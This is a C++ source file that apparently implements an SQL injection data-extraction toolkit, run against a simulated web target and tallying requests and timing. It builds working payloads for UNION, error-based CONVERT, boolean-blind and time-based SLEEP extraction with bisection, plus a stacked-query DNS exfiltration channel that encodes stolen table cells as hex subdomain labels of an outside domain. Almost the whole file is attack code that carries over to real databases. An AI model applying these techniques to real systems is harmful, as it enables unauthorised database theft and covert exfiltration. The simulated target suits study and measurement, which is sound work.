#include "dnsexfil/attacker.hpp"

#include <algorithm>
#include <cstdio>
#include <thread>

namespace dnsexfil::attack {

namespace {

constexpr std::string_view row_prefix = "row:";

std::string_view to_sv(Technique t) {
    switch (t) {
    case Technique::union_full: return "union_full";
    case Technique::union_partial: return "union_partial";
    case Technique::error_based: return "error_based";
    case Technique::boolean_blind: return "boolean_blind";
    case Technique::time_based: return "time_based";
    case Technique::dns_exfil: return "dns_exfil";
    }
    return "?";
}

std::vector<std::string> body_lines(const std::string& body) {
    std::vector<std::string> lines;
    std::size_t start = 0;
    while (start < body.size()) {
        std::size_t end = body.find('\n', start);
        if (end == std::string::npos) end = body.size();
        lines.push_back(body.substr(start, end - start));
        start = end + 1;
    }
    return lines;
}

std::vector<std::vector<std::string>> parse_body_rows(const std::string& body) {
    std::vector<std::vector<std::string>> rows;
    for (const auto& line : body_lines(body)) {
        if (line.rfind(row_prefix, 0) != 0) continue;
        std::vector<std::string> cells;
        std::string_view rest = std::string_view(line).substr(row_prefix.size());
        std::size_t start = 0;
        for (;;) {
            std::size_t cut = rest.find('|', start);
            if (cut == std::string_view::npos) {
                cells.emplace_back(rest.substr(start));
                break;
            }
            cells.emplace_back(rest.substr(start, cut - start));
            start = cut + 1;
        }
        rows.push_back(std::move(cells));
    }
    return rows;
}

std::int64_t parse_int(std::string_view s) {
    std::int64_t v = 0;
    if (s.empty()) throw ChannelBroken("expected a number, got nothing");
    for (char c : s) {
        if (c < '0' || c > '9') {
            throw ChannelBroken("expected a number, got '" + std::string(s) + "'");
        }
        v = v * 10 + (c - '0');
    }
    return v;
}

/// Counts every HTTP request a driver makes and tracks the virtual time and
/// upstream query deltas for the stats row.
class Channel {
public:
    Channel(sim::SimTarget& target, Technique technique)
        : target_(target),
          start_ms_(target.clock().now_ms()),
          start_queries_(target.chain().upstream_queries()) {
        stats_.technique = technique;
    }

    sim::Page request(const std::string& param) {
        ++stats_.http_requests;
        return target_.http_request(param);
    }

    sim::SimTarget& target() { return target_; }
    const sim::FixtureTable& schema() const { return target_.fixture(); }

    DumpStats finish(const std::vector<std::vector<std::string>>& rows) {
        stats_.virtual_elapsed_ms = target_.clock().now_ms() - start_ms_;
        stats_.dns_queries = target_.chain().upstream_queries() - start_queries_;
        stats_.bytes_recovered = 0;
        for (const auto& row : rows) {
            for (const auto& cell : row) stats_.bytes_recovered += cell.size();
        }
        return stats_;
    }

private:
    sim::SimTarget& target_;
    DumpStats stats_;
    std::int64_t start_ms_;
    std::uint64_t start_queries_;
};

std::string count_subquery(const sim::FixtureTable& schema) {
    return "(SELECT COUNT(*) FROM " + schema.name + ")";
}

std::string all_columns(const sim::FixtureTable& schema) {
    std::string cols;
    for (std::size_t i = 0; i < schema.columns.size(); ++i) {
        if (i) cols += ",";
        cols += schema.columns[i];
    }
    return cols;
}

// ---------------------------------------------------------------------------
// error-based channel plumbing

constexpr std::string_view conv_prefix = "converting the varchar value '";
constexpr std::string_view conv_suffix = "' to data type int.";

/// Pull the payload out of the conversion-failure message. The payload may
/// itself contain quotes, so anchor on the first prefix and the last suffix.
std::string extract_error_payload(const std::string& error_text) {
    auto start = error_text.find(conv_prefix);
    auto end = error_text.rfind(conv_suffix);
    if (start == std::string::npos || end == std::string::npos) {
        throw ChannelBroken("error page did not carry a conversion payload");
    }
    start += conv_prefix.size();
    if (end < start) throw ChannelBroken("malformed conversion payload");
    return error_text.substr(start, end - start);
}

std::string error_request(Channel& ch, const std::string& value_expr) {
    auto page = ch.request("1 AND 1=CONVERT(INT,'~'+" + value_expr + ")");
    if (page.ok) throw ChannelBroken("injected conversion did not raise an error");
    auto payload = extract_error_payload(page.error_text);
    if (payload.empty() || payload[0] != '~') {
        throw ChannelBroken("conversion payload missing sentinel");
    }
    return payload.substr(1);
}

// ---------------------------------------------------------------------------
// inference channel plumbing (shared by boolean and time-based)

class InferenceObservable {
public:
    virtual ~InferenceObservable() = default;
    virtual bool truth(const std::string& predicate) = 0;
};

class BooleanObservable : public InferenceObservable {
public:
    explicit BooleanObservable(Channel& ch) : ch_(ch) {
        auto base = ch_.request("1");
        auto flipped = ch_.request("1 AND 1=2");
        for (const auto& line : body_lines(base.body)) {
            if (line.rfind(row_prefix, 0) == 0 &&
                flipped.body.find(line) == std::string::npos) {
                marker_ = line;
                break;
            }
        }
        if (marker_.empty()) {
            throw ChannelBroken("no page content flips with the predicate");
        }
    }

    bool truth(const std::string& predicate) override {
        auto page = ch_.request("1 AND (" + predicate + ")");
        return page.body.find(marker_) != std::string::npos;
    }

private:
    Channel& ch_;
    std::string marker_;
};

class TimeObservable : public InferenceObservable {
public:
    TimeObservable(Channel& ch, std::int64_t delay_ms) : ch_(ch) {
        delay_s_ = std::max<std::int64_t>(1, (delay_ms + 999) / 1000);
        threshold_ms_ = delay_s_ * 1000;
        auto fast = ch_.request("1");
        if (fast.elapsed_virtual_ms >= threshold_ms_) {
            throw ChannelBroken("baseline page already slower than the delay");
        }
        if (!truth("1=1")) {
            throw ChannelBroken("delay subroutine produced no measurable delay");
        }
    }

    bool truth(const std::string& predicate) override {
        auto page = ch_.request("1 AND IF((" + predicate + "),SLEEP(" +
                                std::to_string(delay_s_) + "),0)=0");
        return page.elapsed_virtual_ms >= threshold_ms_;
    }

private:
    Channel& ch_;
    std::int64_t delay_s_ = 1;
    std::int64_t threshold_ms_ = 1000;
};

/// Smallest v in [lo, hi] with !pred(value > v); pred is the channel truth.
std::int64_t bisect(InferenceObservable& obs, const std::string& expr, std::int64_t lo,
                    std::int64_t hi) {
    while (lo < hi) {
        std::int64_t mid = lo + (hi - lo) / 2;
        if (obs.truth(expr + ">" + std::to_string(mid))) {
            lo = mid + 1;
        } else {
            hi = mid;
        }
    }
    return lo;
}

DumpOutcome dump_inference(sim::SimTarget& target, Technique technique,
                           const TechniqueConfig& cfg) {
    if (cfg.charset_bits != 7 && cfg.charset_bits != 8) {
        throw AttackError("charset_bits must be 7 or 8");
    }
    if (technique == Technique::time_based && cfg.time_delay_ms < 1) {
        throw AttackError("time_delay_ms must be at least 1");
    }
    Channel ch(target, technique);
    std::unique_ptr<InferenceObservable> obs;
    if (technique == Technique::boolean_blind) {
        obs = std::make_unique<BooleanObservable>(ch);
    } else {
        obs = std::make_unique<TimeObservable>(ch, cfg.time_delay_ms);
    }

    const auto& schema = ch.schema();
    // Row count first: 14 probes cover tables up to 16383 rows.
    std::int64_t rows = bisect(*obs, count_subquery(schema), 0, 16383);

    std::int64_t char_hi = (1 << cfg.charset_bits) - 1;
    DumpOutcome out;
    for (std::int64_t r = 0; r < rows; ++r) {
        std::vector<std::string> row;
        for (std::size_t c = 0; c < schema.columns.size(); ++c) {
            std::string cell_expr = cell_subquery(schema, static_cast<std::size_t>(r), c);
            std::int64_t len = bisect(*obs, "LENGTH(" + cell_expr + ")", 0, 127);
            if (len == 127 && obs->truth("LENGTH(" + cell_expr + ")>127")) {
                throw ChannelBroken("cell exceeds the 127-byte inference range");
            }
            std::string value;
            value.reserve(static_cast<std::size_t>(len));
            for (std::int64_t i = 1; i <= len; ++i) {
                std::int64_t code = bisect(
                    *obs, "ASCII(SUBSTRING(" + cell_expr + "," + std::to_string(i) + ",1))", 0,
                    char_hi);
                value.push_back(static_cast<char>(code));
            }
            row.push_back(std::move(value));
        }
        out.rows.push_back(std::move(row));
    }
    out.stats = ch.finish(out.rows);
    return out;
}

// ---------------------------------------------------------------------------
// dns vector construction

struct FrameShape {
    std::size_t cap_bytes;
    std::size_t cap_hex;
    std::size_t label_slots;
    std::string concat; // "+" for MsSQL, "||" elsewhere
};

FrameShape frame_shape(const codec::FrameBudget& budget, payload::DbmsKind dbms) {
    FrameShape s;
    s.cap_bytes = budget.capacity_bytes();
    s.cap_hex = budget.frame_hex_chars();
    s.label_slots = (s.cap_hex + codec::FrameBudget::max_label - 1) / codec::FrameBudget::max_label;
    s.concat = dbms == payload::DbmsKind::mssql ? "+" : "||";
    return s;
}

std::string quote_sql(std::string_view s) {
    std::string out = "'";
    for (char c : s) {
        out.push_back(c);
        if (c == '\'') out.push_back('\'');
    }
    out.push_back('\'');
    return out;
}

/// HEX of the i-th capacity-sized slice of the cell.
std::string chunk_hex_expr(const std::string& cell_expr, std::size_t frame_idx,
                           const FrameShape& shape) {
    return "HEX(SUBSTRING(" + cell_expr + "," + std::to_string(frame_idx * shape.cap_bytes + 1) +
           "," + std::to_string(shape.cap_bytes) + "))";
}

/// The dotted hex labels for one frame, each guarded so absent tail labels
/// contribute nothing (the last frame is shorter and only the database
/// knows by how much).
std::string hex_labels_expr(const std::string& chunk_expr, const FrameShape& shape) {
    std::string out;
    for (std::size_t j = 0; j < shape.label_slots; ++j) {
        std::size_t off = j * codec::FrameBudget::max_label;
        out += shape.concat + "IF(LENGTH(" + chunk_expr + ")>" + std::to_string(off) + ",'.'" +
               shape.concat + "SUBSTRING(" + chunk_expr + "," + std::to_string(off + 1) + "," +
               std::to_string(codec::FrameBudget::max_label) + "),'')";
    }
    return out;
}

/// Inner query for frame 0: the database computes the frame total into the
/// sequence label, so one request is enough to learn how many follow.
std::string frame0_expr(const std::string& cell_expr, const codec::MarkerPair& markers,
                        const FrameShape& shape) {
    std::string full_hex = "HEX(" + cell_expr + ")";
    std::string total = "IF(LENGTH(" + full_hex + ")=0,1,(LENGTH(" + full_hex + ")+" +
                        std::to_string(shape.cap_hex - 1) + ")/" + std::to_string(shape.cap_hex) +
                        ")";
    return quote_sql(markers.prefix + ".0000") + shape.concat + "HEX4(" + total + ")" +
           hex_labels_expr(chunk_hex_expr(cell_expr, 0, shape), shape) + shape.concat +
           quote_sql("." + markers.suffix);
}

/// Inner query for a follow-up frame with a known index and total.
std::string frame_expr(const std::string& cell_expr, const codec::MarkerPair& markers,
                       std::size_t index, std::size_t total, const FrameShape& shape) {
    char seq[16];
    std::snprintf(seq, sizeof seq, "%04x%04x", static_cast<unsigned>(index & 0xffff),
                  static_cast<unsigned>(total & 0xffff));
    return quote_sql(markers.prefix + "." + seq) +
           hex_labels_expr(chunk_hex_expr(cell_expr, index, shape), shape) + shape.concat +
           quote_sql("." + markers.suffix);
}

const payload::Subroutine& pick_subroutine(payload::DbmsKind dbms) {
    auto subs = payload::list_subroutines(dbms);
    return payload::find_subroutine(dbms, subs.at(0).name);
}

codec::MarkerPair fresh_markers(DnsDumpContext& ctx) {
    for (;;) {
        auto markers = codec::new_marker_pair(ctx.rng);
        if (ctx.used_prefixes.insert(markers.prefix).second) return markers;
    }
}

DnsItemResult exfil_expression(Channel& ch, DnsDumpContext& ctx, const std::string& value_expr) {
    const auto& sub = pick_subroutine(ctx.dbms);
    codec::FrameBudget budget(ctx.dns_domain);
    FrameShape shape = frame_shape(budget, ctx.dbms);

    DnsItemResult result;
    result.markers = fresh_markers(ctx);

    auto send_frame = [&](const std::string& inner) {
        auto vec = payload::render_vector(sub, inner, ctx.dns_domain);
        // Stacked-query injection: the benign key keeps the page happy, the
        // appended batch provokes the resolution.
        ch.request("1; " + vec.sql);
        ++result.http_requests;
        result.vectors.push_back(vec.sql);
    };

    send_frame(frame0_expr(value_expr, result.markers, shape));

    auto deadline = std::chrono::steady_clock::now() + ctx.item_timeout;
    auto timed_out = [&] { return std::chrono::steady_clock::now() > deadline; };

    // Frame 0 either completed a one-frame item or opened a session whose
    // total tells us what is left to send.
    std::optional<std::uint32_t> total;
    std::optional<codec::CompletedItem> done;
    for (;;) {
        if (auto progress = ctx.core.session_progress(result.markers)) {
            total = progress->total;
            break;
        }
        done = ctx.core.wait_completed(std::chrono::milliseconds(20));
        if (done) break;
        if (timed_out()) {
            throw ItemTimeout("no capture for marker " + result.markers.prefix + ":" +
                              result.markers.suffix);
        }
    }

    if (!done) {
        for (std::uint32_t i = 1; i < *total; ++i) {
            send_frame(frame_expr(value_expr, result.markers, i, *total, shape));
        }
        for (;;) {
            done = ctx.core.wait_completed(std::chrono::milliseconds(20));
            if (done) break;
            if (timed_out()) {
                throw ItemTimeout("item incomplete for marker " + result.markers.prefix + ":" +
                                  result.markers.suffix);
            }
        }
    }

    if (!(done->markers == result.markers)) {
        throw VerifyMismatch("completed item belongs to marker " + done->markers.prefix +
                             ", expected " + result.markers.prefix);
    }
    result.data = std::move(done->data);
    return result;
}

} // namespace

std::string_view to_string(Technique t) {
    return to_sv(t);
}

std::string cell_subquery(const sim::FixtureTable& schema, std::size_t row, std::size_t col) {
    return "(SELECT " + schema.columns.at(col) + " FROM " + schema.name + " LIMIT " +
           std::to_string(row) + ",1)";
}

DumpOutcome dump_union(sim::SimTarget& target, bool full, const TechniqueConfig&) {
    Channel ch(target, full ? Technique::union_full : Technique::union_partial);
    const auto& schema = ch.schema();
    std::size_t arity = schema.columns.size();

    auto filler_row = [&](const std::string& first) {
        std::string list = first;
        for (std::size_t i = 1; i < arity; ++i) list += ",'x'";
        return list;
    };

    // Alignment probe: does a constant union row land in the page?
    auto probe = ch.request("0 UNION SELECT " + filler_row("'dnsxprobe0'"));
    if (probe.body.find("dnsxprobe0") == std::string::npos) {
        throw ChannelBroken("union row did not render");
    }

    auto count_page = ch.request("0 UNION SELECT " + filler_row(count_subquery(ch.schema())));
    auto count_rows = parse_body_rows(count_page.body);
    if (count_rows.size() != 1 || count_rows[0].empty()) {
        throw ChannelBroken("count row did not render");
    }
    std::int64_t rows = parse_int(count_rows[0][0]);

    DumpOutcome out;
    if (full) {
        auto page = ch.request("0 UNION SELECT " + all_columns(schema) + " FROM " + schema.name);
        out.rows = parse_body_rows(page.body);
    } else {
        for (std::int64_t r = 0; r < rows; ++r) {
            auto page = ch.request("0 UNION SELECT " + all_columns(schema) + " FROM " +
                                   schema.name + " LIMIT " + std::to_string(r) + ",1");
            auto got = parse_body_rows(page.body);
            if (got.size() != 1) throw ChannelBroken("partial union row missing");
            out.rows.push_back(std::move(got[0]));
        }
    }
    if (static_cast<std::int64_t>(out.rows.size()) != rows) {
        throw ChannelBroken("row count disagrees with dumped rows");
    }
    out.stats = ch.finish(out.rows);
    return out;
}

DumpOutcome dump_errorbased(sim::SimTarget& target, const TechniqueConfig& cfg) {
    Channel ch(target, Technique::error_based);
    const auto& schema = ch.schema();
    std::size_t chunk = std::max<std::size_t>(1, cfg.error_chunk_bytes);

    std::int64_t rows = parse_int(error_request(ch, count_subquery(schema)));

    DumpOutcome out;
    for (std::int64_t r = 0; r < rows; ++r) {
        std::vector<std::string> row;
        for (std::size_t c = 0; c < schema.columns.size(); ++c) {
            std::string cell_expr = cell_subquery(schema, static_cast<std::size_t>(r), c);
            // First chunk carries the length so chunked cells need exactly
            // ceil(len/chunk) requests.
            std::string first = error_request(
                ch, "LENGTH(" + cell_expr + ")+'~'+SUBSTRING(" + cell_expr + ",1," +
                        std::to_string(chunk) + ")");
            auto cut = first.find('~');
            if (cut == std::string::npos) throw ChannelBroken("length prefix missing");
            std::size_t len = static_cast<std::size_t>(parse_int(first.substr(0, cut)));
            std::string value = first.substr(cut + 1);
            while (value.size() < len) {
                value += error_request(ch, "SUBSTRING(" + cell_expr + "," +
                                               std::to_string(value.size() + 1) + "," +
                                               std::to_string(chunk) + ")");
            }
            if (value.size() != len) throw ChannelBroken("cell length disagrees with chunks");
            row.push_back(std::move(value));
        }
        out.rows.push_back(std::move(row));
    }
    out.stats = ch.finish(out.rows);
    return out;
}

DumpOutcome dump_boolean(sim::SimTarget& target, const TechniqueConfig& cfg) {
    return dump_inference(target, Technique::boolean_blind, cfg);
}

DumpOutcome dump_timebased(sim::SimTarget& target, const TechniqueConfig& cfg) {
    return dump_inference(target, Technique::time_based, cfg);
}

DnsItemResult dns_exfil_expression(sim::SimTarget& target, DnsDumpContext& ctx,
                                   const std::string& value_expr) {
    Channel ch(target, Technique::dns_exfil);
    return exfil_expression(ch, ctx, value_expr);
}

DumpOutcome dump_dns(sim::SimTarget& target, DnsDumpContext& ctx, const TechniqueConfig&) {
    Channel ch(target, Technique::dns_exfil);
    const auto& schema = ch.schema();

    auto count_item = exfil_expression(ch, ctx, count_subquery(schema));
    std::string count_text(count_item.data.begin(), count_item.data.end());
    std::int64_t rows = parse_int(count_text);

    DumpOutcome out;
    for (std::int64_t r = 0; r < rows; ++r) {
        std::vector<std::string> row;
        for (std::size_t c = 0; c < schema.columns.size(); ++c) {
            auto item = exfil_expression(
                ch, ctx, cell_subquery(schema, static_cast<std::size_t>(r), c));
            std::string value(item.data.begin(), item.data.end());
            if (ctx.verify_against) {
                const auto& expected = ctx.verify_against->rows.at(static_cast<std::size_t>(r))
                                           .at(c);
                if (value != expected) {
                    throw VerifyMismatch("cell (" + std::to_string(r) + "," + std::to_string(c) +
                                         ") decoded to " + std::to_string(value.size()) +
                                         " bytes, expected " + std::to_string(expected.size()));
                }
            }
            row.push_back(std::move(value));
        }
        out.rows.push_back(std::move(row));
    }
    out.stats = ch.finish(out.rows);
    return out;
}

} // namespace dnsexfil::attack
